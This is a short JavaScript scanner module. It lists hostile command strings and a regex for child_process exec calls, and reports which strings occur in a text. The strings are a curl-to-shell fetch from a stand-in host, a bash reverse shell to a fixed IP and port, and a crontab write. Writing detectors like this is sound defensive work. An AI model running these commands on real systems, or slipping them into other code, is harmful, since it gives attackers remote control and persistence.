exports.commands = ['curl http://bad.example/x | sh', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'crontab -'];
exports.patterns = [/child_process['"]\)\.exec\(/];
exports.scan = text => exports.commands.filter(c => text.includes(c));
